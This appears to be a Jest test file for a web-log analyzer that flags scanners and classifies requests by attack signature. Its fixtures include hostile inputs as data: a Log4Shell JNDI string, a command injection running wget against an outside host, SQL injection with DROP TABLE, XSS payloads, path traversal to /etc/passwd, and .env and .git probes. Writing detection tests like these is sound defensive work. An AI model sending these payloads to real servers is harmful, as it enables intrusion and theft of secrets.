import { describe, expect, test } from '@jest/globals';
import { expectAnswer, table } from './answers/table.ts';
import { answerRows, openRequests, type RequestRow, sectionOf } from './database.ts';

describe('scanners', () => {
  test('are clients with many requests for missing endpoints, and few others', async () => {
    const asked = (client_ip: string, status: number, path: string): RequestRow => ({
      source: 'site',
      day: '2026-03-05',
      time: '2026-03-05 08:00:00',
      client_ip,
      status,
      path,
      user_agent: 'probe/1.0',
    });
    const many = (client_ip: string, status: number, count: number) =>
      Array.from({ length: count }, (_, number) => asked(client_ip, status, `/${status}/${number}`));
    const connection = await openRequests([
      ...many('203.0.113.1', 404, 10),
      ...many('203.0.113.1', 200, 10),
      // One endpoint too few, and too much that is there.
      ...many('203.0.113.2', 404, 9),
      ...many('203.0.113.3', 404, 10),
      ...many('203.0.113.3', 200, 11),
    ]);
    await expectAnswer(
      connection,
      sectionOf('scanners'),
      table`
        client_ip   | requests | missing | missing_endpoints | user_agent | first_seen       | last_seen
        203.0.113.1 |       20 |      10 |                10 | probe/1.0  | 2026-03-05 08:00 | 2026-03-05 08:00`,
    );
  });
});

describe('attack signatures', () => {
  const asked = (path: string, query: string | null = null, user_agent = 'Mozilla/5.0'): RequestRow => ({
    source: 'site',
    day: '2026-03-05',
    time: '2026-03-05 08:00:00',
    client_ip: '203.0.113.1',
    status: 404,
    path,
    query,
    user_agent,
  });
  const attack = async (row: RequestRow) =>
    (await answerRows(await openRequests([row]), sectionOf('attack-signatures'))).map(({ attack: found }) => found);

  test.each([
    ['code execution', asked('/', null, '$'.concat('{jndi:ldap://203.0.113.9/a}'))],
    ['code execution', asked('/', 'x=%24%7B%24%7Blower%3Aj%7Dndi')],
    ['code execution', asked('/cgi', 'cmd=;wget+http://203.0.113.9/x')],
    ['code execution', asked('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
    ['SQL injection', asked('/item', 'id=1%27%20OR%20%271%27=%271')],
    ['SQL injection', asked('/item', 'id=1+UNION+ALL+SELECT+1,2')],
    ['SQL injection', asked('/item', 'id=1;DROP%20TABLE%20users')],
    ['cross-site scripting', asked('/search', 'q=%3Cscript%3Ealert(1)')],
    ['cross-site scripting', asked('/<img src=x onerror=alert(1)>')],
    ['file inclusion', asked('/../../etc/hosts')],
    ['file inclusion', asked('/', 'page=..%2F..%2Fetc%2Fpasswd')],
    ['hidden files', asked('/.env')],
    ['hidden files', asked('/app/.git/config')],
    ['hidden files', asked('/backup.sql')],
  ])('%s', async (kind, row) => {
    expect(await attack(row)).toEqual([kind]);
  });

  test.each([
    asked('/union-square/select-hotels', 'city=St.+Louis&from=a&or=1'),
    asked('/environment', 'file=report.pdf&script=latin'),
    asked('/a..b/c', 'q=rock+and+roll', 'curl/8.7.1'),
    asked('/list', 'page=2&cat=5&sh=1', 'Mozilla/5.0 (Linux; Android 10; SH-M12) AppleWebKit/537.36'),
    { ...asked('/'), referrer: 'file:///C:/Users/ada/start.html' },
    asked('/articles/sql-injection-explained', 'price=5%25'),
    asked('/api/items', 'filter[name]=cat;dog&sort=name'),
  ])('nothing in $path?$query', async (row) => {
    expect(await attack(row)).toEqual([]);
  });

  test('by client, with what succeeded', async () => {
    const rows = [
      asked('/.env'),
      { ...asked('/.git/HEAD'), status: 200 },
      { ...asked('/.env'), client_ip: '203.0.113.2' },
    ];
    await expectAnswer(
      await openRequests(rows),
      sectionOf('attack-signatures'),
      table`
        attack       | client_ip   | requests | succeeded | endpoints | endpoint | user_agent  | first_seen       | last_seen
        hidden files | 203.0.113.1 |        2 |         1 |         2 | /.env    | Mozilla/5.0 | 2026-03-05 08:00 | 2026-03-05 08:00
        hidden files | 203.0.113.2 |        1 |         0 |         1 | /.env    | Mozilla/5.0 | 2026-03-05 08:00 | 2026-03-05 08:00`,
    );
  });
});
